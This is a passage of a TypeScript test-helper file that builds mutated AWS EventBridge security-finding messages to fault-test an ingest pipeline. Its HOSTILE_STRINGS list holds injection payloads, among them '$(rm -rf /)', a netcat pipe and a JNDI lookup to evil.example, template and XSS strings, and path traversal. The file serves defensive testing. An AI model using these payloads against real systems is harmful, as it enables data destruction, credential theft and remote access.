/**
 * Hostile ingest messages for `test/fault/hostile-input.test.ts`. Every message starts from a real EventBridge
 * fixture (`examples/events/`), given fresh legal ids, and is then varied, decorated with noise or mutated:
 * truncated JSON, flipped types, deleted fields, huge strings, deep nesting, unknown detail-types, spoofed sources,
 * unicode, control characters and injection strings in ids, broken SNS wrappers.
 *
 * What a message is *by construction* is decided here, from AWS's own id shapes and the fixture's meaning, never by
 * asking the product, so the suite can hold the product to it:
 * - **invalid**: it breaks the envelope or detail shape the ingest contract requires (docs/architecture.md,
 *   Contracts, and the normalisers),
 *   puts an identifier AWS would never issue into a field that names the execution (account, region, resource type,
 *   resource id), spoofs the source or detail-type, or is not an event at all. It must never start an execution.
 * - **valid**: AWS could send it. `expect` says what the product must do: `start` (an untouched NON_COMPLIANT /
 *   FAILED / ALARM event, also under noise the product does not read), `no-start` (compliant, archived, below the
 *   severity threshold, a control without a playbook) or `any` (hostile text in a free-text field, or an id AWS
 *   allows that merely looks hostile, e.g. an Auto Scaling group named `AwsAccount = "x"`).
 */
import fc from 'fast-check';
import { fixtureNames, fixtureText } from '../../helpers/fixtures';
import { KIT_PLAYBOOKS } from '../../../src/playbooks';
import { GUARDDUTY_PUBLIC_BUCKET_TYPES } from '../../../src/ingest/normalise-guardduty';
import { SETUPS } from '../../conformance/setups';

/** What the product may do with a message. */
export type Expectation = 'start' | 'no-start' | 'any';

/** One generated message and what it is by construction. */
export interface HostileMessage {
  readonly index: number;
  readonly body: string;
  readonly fixture: string;
  /** Valid by construction: AWS could deliver exactly this. */
  readonly valid: boolean;
  readonly expect: Expectation;
  /** What was done to the fixture, in order (for failure reports and statistics). */
  readonly labels: readonly string[];
  /** SQS would accept the body as EventBridge delivers it: allowed characters only, at most 256 KiB. */
  readonly sqsSafe: boolean;
}

// ---------------------------------------------------------------------------------------------------------------
// AWS's shapes (from the AWS documentation, written independently of src/): the oracle for identity fields.
// ---------------------------------------------------------------------------------------------------------------

/** Identifier shapes AWS issues. Bucket names include legacy us-east-1 names (upper case, underscores, ≤ 255). */
export const AWS_SHAPES = {
  account: /^\d{12}$/,
  region: /^[a-z]{2}(?:-[a-z]+)+-\d$/,
  bucket: /^[A-Za-z0-9._-]{3,255}$/,
  instance: /^i-[0-9a-f]{8}(?:[0-9a-f]{9})?$/,
  securityGroup: /^sg-[0-9a-f]{8}(?:[0-9a-f]{9})?$/,
  accessKeyId: /^[A-Z0-9]{16,128}$/,
  // CreateAutoScalingGroup: 1–255 characters of [\u0020-\uD7FF\uE000-\uFFFD\uD800\uDC00-\uDBFF\uDFFF\r\n\t].
  asgName: /^[\u0020-\u{D7FF}\u{E000}-\u{FFFD}\u{10000}-\u{10FFFF}\r\n\t]{1,255}$/u,
} as const;

/** Characters SQS accepts in a body or string attribute: #x9 | #xA | #xD | #x20–#xD7FF | #xE000–#xFFFD | #x10000+. */
export const SQS_TEXT = /^[\t\n\r\u0020-\u{D7FF}\u{E000}-\u{FFFD}\u{10000}-\u{10FFFF}]*$/u;

/** EventBridge events (and so the SQS messages it delivers) are at most 256 KiB. */
export const MAX_EVENT_BYTES = 256 * 1024;

/** Injection, traversal, format and unicode strings that go into ids, names and free text. */
export const HOSTILE_STRINGS: readonly string[] = [
  "' OR 1=1 --",
  "' OR '1'='1",
  '1; DROP TABLE findings; --',
  '$(rm -rf /)',
  '`reboot`',
  '; cat /etc/passwd',
  '| nc evil.example 4444',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f',
  '/dev/null',
  '\u0000',
  'a\u0000b',
  '\u0007\u001b[31mred',
  '\r\nX-Injected: 1',
  '\u202egnp.exe',
  '\u200b',
  '\ufeff',
  '\ud800',
  '\udfff',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  'Ω≈ç√∫',
  'AwsAccount = "x"',
  'AwsAccount="x"',
  "WorkflowId = 'x' OR WorkflowId != ''",
  'ResourceId="x" OR ExecutionStatus="Running"',
  'x" OR AwsAccount != "',
  'remediation/123456789012/ap-northeast-1/AWS::S3::Bucket/acme-marketing-assets',
  '${jndi:ldap://evil.example/a}',
  "{{constructor.constructor('return process')()}}",
  '<img src=x onerror=alert(1)>',
  '%s%s%s%n',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e400',
  '',
  ' ',
  '\t\n',
];

const ACCOUNTS = ['123456789012', '210987654321', '444455556666'] as const;
/** The accounts generated findings are about (the first is the fixtures'): the ones the suite's policy serves. */
export const HOSTILE_ACCOUNTS: readonly [string, ...string[]] = ACCOUNTS;
const REGIONS = ['ap-northeast-1', 'us-east-1', 'eu-west-1', 'us-gov-west-1'] as const;
const POOL_SIZE = 12;

// ---------------------------------------------------------------------------------------------------------------
// JSON paths
// ---------------------------------------------------------------------------------------------------------------

type Path = readonly (string | number)[];
type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Doc = Record<string, unknown>;

function getAt(doc: unknown, path: Path): unknown {
  let current: unknown = doc;
  for (const key of path) {
    if (typeof current !== 'object' || current === null) return undefined;
    current = (current as Record<string | number, unknown>)[key];
  }
  return current;
}

function has(doc: unknown, path: Path): boolean {
  const parent = getAt(doc, path.slice(0, -1));
  const key = path[path.length - 1];
  return typeof parent === 'object' && parent !== null && key !== undefined && Object.hasOwn(parent, key);
}

function setAt(doc: unknown, path: Path, value: unknown): void {
  const parent = getAt(doc, path.slice(0, -1));
  const key = path[path.length - 1];
  if (typeof parent === 'object' && parent !== null && key !== undefined) {
    (parent as Record<string | number, unknown>)[key] = value;
  }
}

function deleteAt(doc: unknown, path: Path): void {
  const parent = getAt(doc, path.slice(0, -1));
  const key = path[path.length - 1];
  if (Array.isArray(parent) && typeof key === 'number') parent.splice(key, 1);
  else if (typeof parent === 'object' && parent !== null && key !== undefined) {
    delete (parent as Record<string | number, unknown>)[key];
  }
}

const show = (path: Path): string => path.join('.');

/** A field's value as text (a mutation may have made it something else). */
function textAt(doc: unknown, path: Path, fallback = ''): string {
  const value = getAt(doc, path);
  if (typeof value === 'string') return value;
  return value === undefined || value === null ? fallback : JSON.stringify(value);
}

/** The plain object at `path`, if that is what is there. */
function objectAt(doc: unknown, path: Path): Doc | undefined {
  const value = getAt(doc, path);
  return typeof value === 'object' && value !== null && !Array.isArray(value) ? (value as Doc) : undefined;
}

/** The detail object, or the envelope when a mutation made `detail` something else. */
function detailOf(doc: Doc): Doc {
  const detail = doc.detail;
  return typeof detail === 'object' && detail !== null && !Array.isArray(detail) ? (detail as Doc) : doc;
}

// ---------------------------------------------------------------------------------------------------------------
// Fixture families: which fields the product reads, which name the execution, and how to give fresh ids
// ---------------------------------------------------------------------------------------------------------------

/** Fresh ids for one message; pooled ones make repeats for one resource (signals to a running execution). */
export interface Ids {
  readonly eventId: string;
  readonly account: string;
  readonly region: string;
  readonly bucket: string;
  readonly instance: string;
  readonly securityGroup: string;
  readonly accessKey: string;
  readonly asg: string;
  readonly findingId: string;
  readonly hex6: string;
}

/** A field that becomes part of the execution's identity, with AWS's shape for it. */
interface IdentityField {
  readonly label: string;
  /** The legal value now in the document (what a hostile value is appended to). */
  get(doc: Doc): string;
  set(doc: Doc, value: string): void;
  legal(value: string): boolean;
  /** The field is there to be changed (an earlier mutation may have removed what holds it). */
  present(doc: Doc): boolean;
  /** The document field it writes. */
  readonly key: string;
}

/** A read field whose value selects the playbook. */
interface RoutingField {
  readonly path: Path;
  /** Whether AWS could send another value here (a custom rule, a custom metric) or not (a made-up control id). */
  readonly valid: boolean;
  /** A hostile value appended to the real control: GuardDuty types route by prefix, so it may still start. */
  readonly append: { readonly valid: boolean; readonly expect: Expectation };
}

/** A read field that a huge value breaks (or does not). */
interface HugeField {
  readonly path: Path;
  readonly valid: boolean;
  readonly expect: Expectation;
}

/** A legal variation of the event that changes what the product must do. */
interface Variation {
  readonly label: string;
  apply(doc: Doc, ids: Ids): void;
  readonly expect: Expectation;
  /** Applied after the mutations (a copy of a finding carries what was done to it). */
  readonly last?: boolean;
}

interface Family {
  /** Deleting or retyping one of these makes the event invalid. */
  required(doc: Doc): Path[];
  /** Read with a fallback: retyping makes the event invalid, deleting it alone changes nothing. */
  optional(doc: Doc): Path[];
  /** Never read: anything goes. */
  unread(doc: Doc): Path[];
  identity(doc: Doc): IdentityField[];
  routing(doc: Doc): RoutingField[];
  /** Read, free text: hostile content is legal (it may or may not start). */
  freeText(doc: Doc): Path[];
  /** The resource type and the legal types that do not belong to this event's control. */
  typeSwap(doc: Doc): { path: Path; others: string[] } | undefined;
  huge(doc: Doc): HugeField[];
  variations(doc: Doc): Variation[];
  freshIds(doc: Doc, ids: Ids): void;
}

// The envelope's account is required: the ingest holds it to the finding's account (docs/architecture.md, Trust model).
const ENVELOPE_REQUIRED: Path[] = [
  ['version'],
  ['id'],
  ['detail-type'],
  ['source'],
  ['account'],
  ['time'],
  ['region'],
  ['detail'],
];

function envelopeIdentity(): IdentityField[] {
  return [
    {
      label: 'account',
      get: (doc) => textAt(doc, ['account'], ACCOUNTS[0]),
      set: (doc, v) => {
        doc.account = v;
      },
      legal: (v) => AWS_SHAPES.account.test(v),
      present: () => true,
      key: 'account',
    },
  ];
}

function pathIdentity(label: string, path: Path, legal: (v: string) => boolean): IdentityField {
  return {
    label,
    get: (doc) => textAt(doc, path),
    set: (doc, v) => setAt(doc, path, v),
    legal,
    present: (doc) => has(doc, path),
    key: show(path),
  };
}

/**
 * The kit playbooks' resource types (other than the account): the id shape each declares, the id a fresh copy of a
 * fixture gets, and how Security Hub writes its ARN.
 */
const KIT_TYPES: Record<
  string,
  {
    shape: RegExp;
    securityHubType?: string;
    fresh: (ids: Ids) => string;
    arn: (region: string, account: string, id: string) => string;
  }
> = {
  'AWS::KMS::Key': {
    shape: /^$/,
    fresh: (ids) => ids.eventId,
    arn: (region, account, id) => `arn:aws:kms:${region}:${account}:key/${id}`,
  },
  'AWS::EC2::Subnet': {
    shape: /^$/,
    fresh: (ids) => `subnet-${ids.instance.slice(2)}`,
    arn: (region, account, id) => `arn:aws:ec2:${region}:${account}:subnet/${id}`,
  },
  'AWS::CloudTrail::Trail': {
    shape: /^$/,
    fresh: (ids) => `trail-${ids.hex6}`,
    arn: (region, account, id) => `arn:aws:cloudtrail:${region}:${account}:trail/${id}`,
  },
  'AWS::S3::Bucket': {
    shape: /^$/,
    fresh: (ids) => ids.bucket,
    arn: (_region, _account, id) => `arn:aws:s3:::${id}`,
  },
  'AWS::EC2::SecurityGroup': {
    shape: /^$/,
    fresh: (ids) => ids.securityGroup,
    arn: (region, account, id) => `arn:aws:ec2:${region}:${account}:security-group/${id}`,
  },
  'AWS::EC2::VPC': {
    shape: /^$/,
    fresh: (ids) => `vpc-${ids.instance.slice(2)}`,
    arn: (region, account, id) => `arn:aws:ec2:${region}:${account}:vpc/${id}`,
  },
  'AWS::SQS::Queue': {
    shape: /^$/,
    fresh: (ids) => `queue-${ids.hex6}`,
    arn: (region, account, id) => `arn:aws:sqs:${region}:${account}:${id}`,
  },
  'AWS::SNS::Topic': {
    shape: /^$/,
    fresh: (ids) => `topic-${ids.hex6}`,
    arn: (region, account, id) => `arn:aws:sns:${region}:${account}:${id}`,
  },
  'AWS::RDS::DBSnapshot': {
    shape: /^$/,
    fresh: (ids) => `snapshot-${ids.hex6}`,
    arn: (region, account, id) => `arn:aws:rds:${region}:${account}:snapshot:${id}`,
  },
  'AWS::RDS::DBInstance': {
    shape: /^$/,
    fresh: (ids) => `database-${ids.hex6}`,
    arn: (region, account, id) => `arn:aws:rds:${region}:${account}:db:${id}`,
  },
  'AWS::Lambda::Function': {
    shape: /^$/,
    fresh: (ids) => `function-${ids.hex6}`,
    arn: (region, account, id) => `arn:aws:lambda:${region}:${account}:function:${id}`,
  },
  'AWS::SSM::Document': {
    shape: /^$/,
    fresh: (ids) => `document-${ids.hex6}`,
    arn: (region, account, id) => `arn:aws:ssm:${region}:${account}:document/${id}`,
  },
  // Config names a user by its id (`AIDA…`); Security Hub's ARN (no region) ends with the name, which ingest takes.
  'AWS::IAM::User': {
    shape: /^$/,
    fresh: (ids) => `AIDA${ids.accessKey.slice(4)}`,
    arn: (_region, account, id) => `arn:aws:iam::${account}:user/${id}`,
  },
};
for (const { resource } of KIT_PLAYBOOKS) {
  const known = KIT_TYPES[resource.type];
  if (known)
    KIT_TYPES[resource.type] = {
      ...known,
      shape: resource.idPattern,
      ...(resource.securityHubType ? { securityHubType: resource.securityHubType } : {}),
    };
}
const kitTypeOfSecurityHub = (type: string) =>
  Object.values(KIT_TYPES).find((k) => k.securityHubType === type);

const CONFIG_ID_SHAPES: Record<string, (v: string, doc: Doc) => boolean> = {
  'AWS::S3::Bucket': (v) => AWS_SHAPES.bucket.test(v),
  'AWS::EC2::Instance': (v) => AWS_SHAPES.instance.test(v),
  'AWS::EC2::SecurityGroup': (v) => AWS_SHAPES.securityGroup.test(v),
  'AWS::::Account': (v, doc) => v === getAt(doc, ['detail', 'awsAccountId']),
  ...Object.fromEntries(Object.entries(KIT_TYPES).map(([type, k]) => [type, (v: string) => k.shape.test(v)])),
};

const CONFIG_TYPES = [
  'AWS::S3::Bucket',
  'AWS::EC2::Instance',
  'AWS::EC2::SecurityGroup',
  'AWS::::Account',
  'AWS::IAM::User',
  'AWS::RDS::DBInstance',
];

const config: Family = {
  required: () => [
    ...ENVELOPE_REQUIRED,
    ['detail', 'resourceId'],
    ['detail', 'resourceType'],
    ['detail', 'awsAccountId'],
    ['detail', 'awsRegion'],
    ['detail', 'configRuleName'],
    ['detail', 'messageType'],
    ['detail', 'newEvaluationResult'],
    ['detail', 'newEvaluationResult', 'complianceType'],
  ],
  optional: () => [
    ['resources'],
    ['detail', 'configRuleARN'],
    ['detail', 'newEvaluationResult', 'resultRecordedTime'],
    ['detail', 'newEvaluationResult', 'evaluationResultIdentifier'],
    ['detail', 'newEvaluationResult', 'evaluationResultIdentifier', 'orderingTimestamp'],
  ],
  unread: (doc) =>
    [
      ['detail', 'recordVersion'],
      ['detail', 'notificationCreationTime'],
      ['detail', 'newEvaluationResult', 'configRuleInvokedTime'],
      ['detail', 'newEvaluationResult', 'evaluationResultIdentifier', 'evaluationResultQualifier'],
      ['detail', 'oldEvaluationResult'],
    ].filter((p) => has(doc, p)),
  identity: (doc) => {
    const type = String(getAt(doc, ['detail', 'resourceType']));
    const shape = CONFIG_ID_SHAPES[type] ?? ((v: string) => /^[\x21-\x7e]{1,256}$/.test(v));
    return [
      ...envelopeIdentity(),
      pathIdentity('config resourceId', ['detail', 'resourceId'], (v) => shape(v, doc)),
      pathIdentity('config awsAccountId', ['detail', 'awsAccountId'], (v) =>
        // The account resource's id is the account itself: changing one alone breaks the event.
        type === 'AWS::::Account' ? v === getAt(doc, ['detail', 'resourceId']) : AWS_SHAPES.account.test(v),
      ),
      pathIdentity('config awsRegion', ['detail', 'awsRegion'], (v) => AWS_SHAPES.region.test(v)),
    ];
  },
  // A custom Config rule may be called anything; it has no playbook.
  routing: () => [
    { path: ['detail', 'configRuleName'], valid: true, append: { valid: true, expect: 'no-start' } },
  ],
  freeText: () => [['id']],
  typeSwap: (doc) => {
    const type = String(getAt(doc, ['detail', 'resourceType']));
    return { path: ['detail', 'resourceType'], others: CONFIG_TYPES.filter((t) => t !== type) };
  },
  huge: () => [
    { path: ['detail', 'resourceId'], valid: false, expect: 'no-start' },
    { path: ['detail', 'configRuleName'], valid: false, expect: 'no-start' },
    { path: ['detail-type'], valid: false, expect: 'no-start' },
    { path: ['source'], valid: false, expect: 'no-start' },
    { path: ['id'], valid: false, expect: 'no-start' },
  ],
  variations: (doc) => {
    const rule = String(getAt(doc, ['detail', 'configRuleName']));
    const compliance = getAt(doc, ['detail', 'newEvaluationResult', 'complianceType']);
    const setCompliance = (value: string) => (d: Doc) =>
      setAt(d, ['detail', 'newEvaluationResult', 'complianceType'], value);
    return [
      {
        // Security Hub and conformance packs deploy managed rules under longer names.
        label: 'conformance-pack rule name',
        apply: (d, ids) => setAt(d, ['detail', 'configRuleName'], `securityhub-${rule}-${ids.hex6}`),
        expect: compliance === 'NON_COMPLIANT' ? 'start' : 'no-start',
      },
      { label: 'COMPLIANT', apply: setCompliance('COMPLIANT'), expect: 'no-start' },
      { label: 'NOT_APPLICABLE', apply: setCompliance('NOT_APPLICABLE'), expect: 'no-start' },
      { label: 'INSUFFICIENT_DATA', apply: setCompliance('INSUFFICIENT_DATA'), expect: 'no-start' },
      { label: 'NON_COMPLIANT', apply: setCompliance('NON_COMPLIANT'), expect: 'start' },
    ];
  },
  freshIds: (doc, ids) => {
    const type = String(getAt(doc, ['detail', 'resourceType']));
    const resourceId =
      type === 'AWS::S3::Bucket'
        ? ids.bucket
        : type === 'AWS::EC2::Instance'
          ? ids.instance
          : type === 'AWS::EC2::SecurityGroup'
            ? ids.securityGroup
            : (KIT_TYPES[type]?.fresh(ids) ?? ids.account);
    doc.id = ids.eventId;
    setAt(doc, ['detail', 'resourceId'], resourceId);
    setAt(doc, ['detail', 'awsAccountId'], ids.account);
    setAt(doc, ['detail', 'awsRegion'], ids.region);
    for (const which of ['newEvaluationResult', 'oldEvaluationResult']) {
      const qualifier = [
        'detail',
        which,
        'evaluationResultIdentifier',
        'evaluationResultQualifier',
        'resourceId',
      ];
      if (has(doc, qualifier)) setAt(doc, qualifier, resourceId);
    }
  },
};

const guardduty: Family = {
  required: (doc) => {
    const type = getAt(doc, ['detail', 'resource', 'resourceType']);
    return [
      ...ENVELOPE_REQUIRED,
      ['detail', 'accountId'],
      ['detail', 'region'],
      ['detail', 'id'],
      ['detail', 'type'],
      ['detail', 'severity'],
      ['detail', 'resource'],
      ['detail', 'resource', 'resourceType'],
      ['detail', 'service'],
      ...(type === 'Instance'
        ? [
            ['detail', 'resource', 'instanceDetails'],
            ['detail', 'resource', 'instanceDetails', 'instanceId'],
          ]
        : [['detail', 'resource', 'accessKeyDetails']]),
    ];
  },
  optional: (doc) =>
    [
      ['resources'],
      ['detail', 'title'],
      ['detail', 'service', 'resourceRole'],
      ['detail', 'service', 'archived'],
      ['detail', 'resource', 'accessKeyDetails', 'accessKeyId'],
      ['detail', 'resource', 'accessKeyDetails', 'userName'],
      ['detail', 'resource', 'accessKeyDetails', 'principalId'],
      ['detail', 'resource', 'accessKeyDetails', 'userType'],
    ].filter((p) => has(doc, p) || p.length === 1),
  unread: (doc) =>
    [
      ['detail', 'schemaVersion'],
      ['detail', 'partition'],
      ['detail', 'arn'],
      ['detail', 'createdAt'],
      ['detail', 'updatedAt'],
      ['detail', 'description'],
      ['detail', 'service', 'count'],
      ['detail', 'service', 'action'],
      ['detail', 'service', 'detectorId'],
      ['detail', 'resource', 'instanceDetails', 'tags'],
      ['detail', 'resource', 'instanceDetails', 'networkInterfaces'],
      ['detail', 'resource', 'instanceDetails', 'instanceType'],
    ].filter((p) => has(doc, p)),
  identity: (doc) => {
    const instance = has(doc, ['detail', 'resource', 'instanceDetails', 'instanceId']);
    const key = has(doc, ['detail', 'resource', 'accessKeyDetails', 'accessKeyId']);
    return [
      ...envelopeIdentity(),
      pathIdentity('guardduty accountId', ['detail', 'accountId'], (v) => AWS_SHAPES.account.test(v)),
      pathIdentity('guardduty region', ['detail', 'region'], (v) => AWS_SHAPES.region.test(v)),
      ...(instance
        ? [
            pathIdentity(
              'guardduty instanceId',
              ['detail', 'resource', 'instanceDetails', 'instanceId'],
              (v) => AWS_SHAPES.instance.test(v),
            ),
          ]
        : []),
      ...(key
        ? [
            pathIdentity(
              'guardduty accessKeyId',
              ['detail', 'resource', 'accessKeyDetails', 'accessKeyId'],
              (v) => AWS_SHAPES.accessKeyId.test(v),
            ),
          ]
        : []),
    ];
  },
  // GuardDuty's finding types are a fixed catalogue, but the policy routes them by prefix (`UnauthorizedAccess:EC2/*`).
  routing: () => [{ path: ['detail', 'type'], valid: false, append: { valid: true, expect: 'any' } }],
  freeText: (doc) =>
    [
      ['id'],
      ['detail', 'title'],
      ['detail', 'id'],
      ['detail', 'resource', 'accessKeyDetails', 'userName'],
      ['detail', 'resource', 'accessKeyDetails', 'principalId'],
    ].filter((p) => has(doc, p)),
  // Swapped to a type whose details the finding lacks. (Another type without details, `EKSCluster` say, is a finding
  // GuardDuty could send: triage takes it, keyed by the finding id, so it is no invalid message.)
  typeSwap: (doc) => {
    const type = String(getAt(doc, ['detail', 'resource', 'resourceType']));
    return {
      path: ['detail', 'resource', 'resourceType'],
      others: ['Instance', 'AccessKey'].filter((t) => t !== type),
    };
  },
  huge: () => [
    { path: ['detail', 'title'], valid: true, expect: 'any' },
    { path: ['detail', 'type'], valid: false, expect: 'no-start' },
    { path: ['detail', 'id'], valid: false, expect: 'no-start' },
    { path: ['detail-type'], valid: false, expect: 'no-start' },
  ],
  variations: (doc) => [
    {
      label: 'severity below the threshold',
      apply: (d, ids) => setAt(d, ['detail', 'severity'], (parseInt(ids.hex6, 16) % 69) / 10),
      // A bucket made public is closed whatever GuardDuty rates it.
      expect: GUARDDUTY_PUBLIC_BUCKET_TYPES.includes(String(getAt(doc, ['detail', 'type'])))
        ? 'start'
        : 'no-start',
    },
    {
      label: 'archived',
      apply: (d) => setAt(d, ['detail', 'service', 'archived'], true),
      expect: 'no-start',
    },
    { label: 'severity 10', apply: (d) => setAt(d, ['detail', 'severity'], 10), expect: 'start' },
    {
      label: 'resourceRole ACTOR',
      apply: (d) => setAt(d, ['detail', 'service', 'resourceRole'], 'ACTOR'),
      expect: 'start',
    },
  ],
  freshIds: (doc, ids) => {
    doc.id = ids.eventId;
    setAt(doc, ['detail', 'accountId'], ids.account);
    setAt(doc, ['detail', 'region'], ids.region);
    setAt(doc, ['detail', 'id'], `${ids.findingId}`);
    if (has(doc, ['detail', 'resource', 'instanceDetails', 'instanceId'])) {
      setAt(doc, ['detail', 'resource', 'instanceDetails', 'instanceId'], ids.instance);
    }
    if (has(doc, ['detail', 'resource', 'accessKeyDetails', 'accessKeyId'])) {
      setAt(doc, ['detail', 'resource', 'accessKeyDetails', 'accessKeyId'], ids.accessKey);
    }
  },
};

const METRIC: Path = ['detail', 'configuration', 'metrics', 0, 'metricStat', 'metric'];
const ALARM_ARN: Path = ['resources', 0];

function alarmArnPart(part: 3 | 4, label: string, legal: (v: string) => boolean): IdentityField {
  return {
    label,
    get: (doc) => textAt(doc, ALARM_ARN).split(':')[part] ?? '',
    set: (doc, v) => {
      const pieces = textAt(doc, ALARM_ARN).split(':');
      pieces[part] = v;
      setAt(doc, ALARM_ARN, pieces.join(':'));
    },
    // A colon in the value would shift the ARN's other parts.
    legal: (v) => legal(v) && !v.includes(':'),
    present: (doc) => typeof getAt(doc, ALARM_ARN) === 'string',
    key: show(ALARM_ARN),
  };
}

const cloudwatch: Family = {
  required: () => [
    ...ENVELOPE_REQUIRED,
    ['detail', 'alarmName'],
    ['detail', 'state'],
    ['detail', 'state', 'value'],
    // Without the metric the alarm names no resource and no control: it must not start either.
    ['detail', 'configuration'],
    ['detail', 'configuration', 'metrics'],
    ['detail', 'configuration', 'metrics', 0],
    ['detail', 'configuration', 'metrics', 0, 'metricStat'],
    [...METRIC],
    [...METRIC, 'namespace'],
    [...METRIC, 'name'],
    [...METRIC, 'dimensions'],
  ],
  optional: () => [['resources'], ['detail', 'state', 'timestamp']],
  unread: (doc) =>
    [
      ['detail', 'previousState'],
      ['detail', 'state', 'reason'],
      ['detail', 'state', 'reasonData'],
      ['detail', 'configuration', 'description'],
      ['detail', 'configuration', 'metrics', 0, 'id'],
      ['detail', 'configuration', 'metrics', 0, 'metricStat', 'period'],
      ['detail', 'configuration', 'metrics', 0, 'metricStat', 'stat'],
      ['detail', 'configuration', 'metrics', 0, 'returnData'],
    ].filter((p) => has(doc, p)),
  identity: (doc) => {
    const dims = objectAt(doc, [...METRIC, 'dimensions']) ?? {};
    return [
      ...envelopeIdentity(),
      alarmArnPart(3, 'alarm ARN region', (v) => AWS_SHAPES.region.test(v)),
      alarmArnPart(4, 'alarm ARN account', (v) => AWS_SHAPES.account.test(v)),
      ...('InstanceId' in dims
        ? [
            pathIdentity('alarm InstanceId', [...METRIC, 'dimensions', 'InstanceId'], (v) =>
              AWS_SHAPES.instance.test(v),
            ),
          ]
        : []),
      ...('AutoScalingGroupName' in dims
        ? [
            pathIdentity(
              'alarm AutoScalingGroupName',
              [...METRIC, 'dimensions', 'AutoScalingGroupName'],
              (v) => AWS_SHAPES.asgName.test(v),
            ),
          ]
        : []),
    ];
  },
  // Custom metrics may have any namespace and name; they have no playbook.
  routing: () => [
    { path: [...METRIC, 'namespace'], valid: true, append: { valid: true, expect: 'no-start' } },
    { path: [...METRIC, 'name'], valid: true, append: { valid: true, expect: 'no-start' } },
  ],
  freeText: () => [['id'], ['detail', 'alarmName']],
  typeSwap: (doc) => {
    // The dimension names the resource type: an instance alarm about a group, or the other way round.
    const dims = objectAt(doc, [...METRIC, 'dimensions']);
    if (!dims) return undefined;
    return {
      path: [...METRIC, 'dimensions'],
      others: ['InstanceId' in dims ? 'AutoScalingGroupName' : 'InstanceId'],
    };
  },
  huge: () => [
    { path: ['detail', 'alarmName'], valid: false, expect: 'no-start' },
    { path: [...METRIC, 'namespace'], valid: true, expect: 'no-start' },
    { path: ['detail-type'], valid: false, expect: 'no-start' },
  ],
  variations: () => [
    { label: 'alarm OK', apply: (d) => setAt(d, ['detail', 'state', 'value'], 'OK'), expect: 'no-start' },
    {
      label: 'alarm INSUFFICIENT_DATA',
      apply: (d) => setAt(d, ['detail', 'state', 'value'], 'INSUFFICIENT_DATA'),
      expect: 'no-start',
    },
  ],
  freshIds: (doc, ids) => {
    doc.id = ids.eventId;
    const alarm = String(getAt(doc, ['detail', 'alarmName']));
    setAt(doc, ALARM_ARN, `arn:aws:cloudwatch:${ids.region}:${ids.account}:alarm:${alarm}`);
    const dims = objectAt(doc, [...METRIC, 'dimensions']);
    if (dims && 'InstanceId' in dims) dims.InstanceId = ids.instance;
    if (dims && 'AutoScalingGroupName' in dims) dims.AutoScalingGroupName = ids.asg;
  },
};

const FINDING: Path = ['detail', 'findings', 0];
const SH_RESOURCE: Path = [...FINDING, 'Resources', 0];
const SH_TYPES: Record<string, (v: string) => boolean> = {
  AwsEc2Instance: (v) => AWS_SHAPES.instance.test(v),
  AwsS3Bucket: (v) => AWS_SHAPES.bucket.test(v),
  AwsEc2SecurityGroup: (v) => AWS_SHAPES.securityGroup.test(v),
  ...Object.fromEntries(
    Object.values(KIT_TYPES).flatMap((k) =>
      k.securityHubType ? [[k.securityHubType, (v: string) => k.shape.test(v)]] : [],
    ),
  ),
};

/** The resource part of an ARN as Security Hub writes it (`instance/i-…`, the bucket name, `security-group/sg-…`). */
function shResourceArn(type: string, region: string, account: string, id: string): string {
  if (type === 'AwsAccount') return `AWS::::Account:${id}`;
  if (type === 'AwsS3Bucket') return `arn:aws:s3:::${id}`;
  if (type === 'AwsEc2SecurityGroup') return `arn:aws:ec2:${region}:${account}:security-group/${id}`;
  const kit = kitTypeOfSecurityHub(type);
  if (kit) return kit.arn(region, account, id);
  return `arn:aws:ec2:${region}:${account}:instance/${id}`;
}

const securityhub: Family = {
  required: () => [
    ...ENVELOPE_REQUIRED,
    ['detail', 'findings'],
    [...FINDING],
    [...FINDING, 'Id'],
    [...FINDING, 'ProductArn'],
    [...FINDING, 'AwsAccountId'],
    [...FINDING, 'Resources'],
    [...SH_RESOURCE],
    [...SH_RESOURCE, 'Type'],
    [...SH_RESOURCE, 'Id'],
  ],
  optional: () => [
    ['resources'],
    [...FINDING, 'Title'],
    [...FINDING, 'UpdatedAt'],
    [...FINDING, 'Region'],
    [...FINDING, 'Severity'],
    [...FINDING, 'Severity', 'Normalized'],
    [...FINDING, 'Severity', 'Label'],
    [...FINDING, 'Workflow'],
    [...FINDING, 'Workflow', 'Status'],
    [...FINDING, 'RecordState'],
    [...FINDING, 'GeneratorId'],
    [...FINDING, 'Compliance', 'SecurityControlId'],
    [...SH_RESOURCE, 'Region'],
  ],
  unread: () => [
    [...FINDING, 'SchemaVersion'],
    [...FINDING, 'Types'],
    [...FINDING, 'FirstObservedAt'],
    [...FINDING, 'LastObservedAt'],
    [...FINDING, 'CreatedAt'],
    [...FINDING, 'ProductFields'],
    [...FINDING, 'WorkflowState'],
    [...FINDING, 'Severity', 'Original'],
    [...FINDING, 'Compliance', 'AssociatedStandards'],
    [...SH_RESOURCE, 'Partition'],
  ],
  identity: (doc) => {
    const type = String(getAt(doc, [...SH_RESOURCE, 'Type']));
    const shape = SH_TYPES[type] ?? (() => false);
    const region = textAt(doc, [...SH_RESOURCE, 'Region'], 'ap-northeast-1');
    const account = String(getAt(doc, [...FINDING, 'AwsAccountId']));
    const arn = String(getAt(doc, [...SH_RESOURCE, 'Id']));
    const current = arn
      .slice(arn.lastIndexOf('/') + 1)
      .replace(/^arn:aws:s3:::/, '')
      .replace(/^AWS::::Account:/, '');
    // An account-level finding is about the finding's own account, and only that.
    const legal = type === 'AwsAccount' ? (v: string) => v === account : shape;
    return [
      ...envelopeIdentity(),
      pathIdentity('securityhub AwsAccountId', [...FINDING, 'AwsAccountId'], (v) =>
        AWS_SHAPES.account.test(v),
      ),
      pathIdentity('securityhub resource Region', [...SH_RESOURCE, 'Region'], (v) =>
        AWS_SHAPES.region.test(v),
      ),
      {
        label: 'securityhub resource ARN',
        get: () => current,
        set: (d, v) => setAt(d, [...SH_RESOURCE, 'Id'], shResourceArn(type, region, account, v)),
        legal,
        present: (d) => has(d, [...SH_RESOURCE, 'Id']),
        key: show([...SH_RESOURCE, 'Id']),
      },
      {
        label: 'securityhub resource Id (not an ARN)',
        get: () => current,
        set: (d, v) => setAt(d, [...SH_RESOURCE, 'Id'], v),
